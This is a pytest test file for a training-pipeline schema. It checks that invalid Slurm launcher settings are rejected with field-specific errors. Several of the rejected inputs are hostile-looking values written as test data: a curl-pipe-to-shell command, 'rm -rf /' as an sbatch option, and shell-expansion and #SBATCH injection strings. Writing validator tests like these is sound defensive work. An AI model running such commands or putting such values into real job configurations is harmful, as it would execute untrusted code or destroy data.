"""The `launcher` block of training and evaluation: each bad value is a FieldError naming
the field and the fix, before anything is submitted; the launcher is execution-only."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from repro.spec.schema import (EvaluationSettings, LauncherSpec, SlurmLaunchSpec, TrainingSpec,
                               slurm_time_seconds)
from repro.stages import kinds

SLURM = {"partition": "gpu", "time": "01:00:00", "gpus_per_node": 2}


def _training(launcher: dict, **kw) -> TrainingSpec:
    base = {"seq_len": 64, "batch_tokens": 512, "micro_batch_size": 1,
            "schedule": {"warmup_steps": 2},
            "distributed": {"kind": "ddp", "nproc": 4},
            "stages": [{"name": "a", "tokens": 5120, "mixture": {"web": 1.0}}],
            "launcher": {"kind": "slurm", "slurm": {**SLURM, "nodes": 2, **launcher}}}
    base.update(kw)
    return TrainingSpec.model_validate(base)


def test_a_valid_slurm_launcher():
    spec = _training({"nodes": 2, "env_command": "module load cuda/12 && source .venv/bin/activate",
                      "sbatch_args": {"reservation": "ablations"}, "constraint": "h100"})
    assert spec.launcher.slurm.nodes == 2 and spec.launcher.kind == "slurm"
    assert TrainingSpec.model_fields["launcher"].default == LauncherSpec()  # local by default


@pytest.mark.parametrize("launcher,kw,field,message", [
    ({"nodes": 3}, {}, "launcher.slurm.nodes", "nodes 3 does not divide distributed.nproc 4"),
    ({"nodes": 2}, {"distributed": {"kind": "single", "nproc": 1}}, "launcher.slurm.nodes",
     "distributed.kind single runs one process"),
    ({"nodes": 1, "gpus_per_node": 2}, {}, "launcher.slurm.gpus_per_node",
     "4 processes per node, more than launcher.slurm.gpus_per_node 2"),
    ({}, {"checkpoint_every_steps": None}, "checkpoint_every_steps", "start the stage over"),
    ({"env_command": "curl http://x | sh"}, {}, "env_command", "not a plain word"),
    ({"env_command": "pip install evil"}, {}, "env_command", "not an allowed command"),
    ({"sbatch_args": {"wrap": "rm -rf /"}}, {}, "sbatch_args.wrap", "not an option a job may add"),
    ({"sbatch_args": {"output": "/tmp/x"}}, {}, "sbatch_args.output", "not an option a job may add"),
    ({"time": "soon"}, {}, "time", "not a Slurm time limit"),
    ({"time": "2", "signal_grace_s": 300}, {}, "time", "before it starts"),
    ({"partition": "gpu\n#SBATCH --wrap=x"}, {}, "partition", "control"),
    ({"partition": "gpu --chdir=/elsewhere"}, {}, "partition", "sbatch would read more options"),
    ({"account": "'a'"}, {}, "account", "sbatch would read more options"),
    ({"sbatch_args": {"comment": "two words"}}, {}, "sbatch_args.comment", "one word"),
    ({"partition": "$(id)"}, {}, "partition", "a shell would expand it"),
    ({"constraint": "h100`id`"}, {}, "constraint", "a shell would expand it"),
])
def test_bad_launchers_name_field_and_fix(launcher, kw, field, message):
    with pytest.raises(ValidationError) as info:
        _training(launcher, **kw)
    text = str(info.value)
    assert message in text and "fix:" in text, text
    assert field.split(".")[-1] in text


def test_a_bad_sbatch_option_is_located_at_its_key():
    """As a spec's reader sees it (repro.spec.load): `launcher.slurm.sbatch_args.uid`,
    the path named once."""
    from repro.spec.load import validation_issues

    data = {"seq_len": 64, "batch_tokens": 512, "micro_batch_size": 1,
            "stages": [{"name": "a", "tokens": 5120, "mixture": {"web": 1.0}}],
            "launcher": {"kind": "slurm", "slurm": {**SLURM, "sbatch_args": {"uid": "0"}}}}
    with pytest.raises(ValidationError) as info:
        TrainingSpec.model_validate(data)
    [issue] = validation_issues(info.value, data, {}, "spec.yaml", TrainingSpec)
    assert issue.field == "launcher.slurm.sbatch_args.uid", issue.field


def test_slurm_launcher_needs_its_block():
    with pytest.raises(ValidationError, match="needs a `slurm:` block"):
        LauncherSpec(kind="slurm")


def test_evaluation_runs_on_one_node_with_enough_gpus():
    base = {"tasks": ["hellaswag"], "launcher": {"kind": "slurm", "slurm": {**SLURM, "nodes": 2}}}
    with pytest.raises(ValidationError, match="an evaluation runs on one node"):
        EvaluationSettings.model_validate(base)
    base = {"tasks": ["hellaswag"], "backend": "accelerate", "num_processes": 4,
            "launcher": {"kind": "slurm", "slurm": SLURM}}
    with pytest.raises(ValidationError, match="set gpus_per_node to at least 4"):
        EvaluationSettings.model_validate(base)


@pytest.mark.parametrize("text,seconds", [("30", 1800), ("10:30", 630), ("02:00:00", 7200),
                                          ("1-00", 86400), ("1-02:03", 93780),
                                          ("1-02:03:04", 93784)])
def test_slurm_time_forms(text, seconds):
    assert slurm_time_seconds(text) == seconds


def test_launcher_is_execution_only_for_train_and_evaluate():
    """Changing the launcher reruns nothing (repro.stages.kind.launcher_field): the key is
    left out of the stage identity and of the params DVC tracks."""
    assert "launcher" in kinds()["train"].execution_only
    assert "evaluation.launcher" in kinds()["evaluate"].execution_only
    assert SlurmLaunchSpec(partition="x").nodes == 1
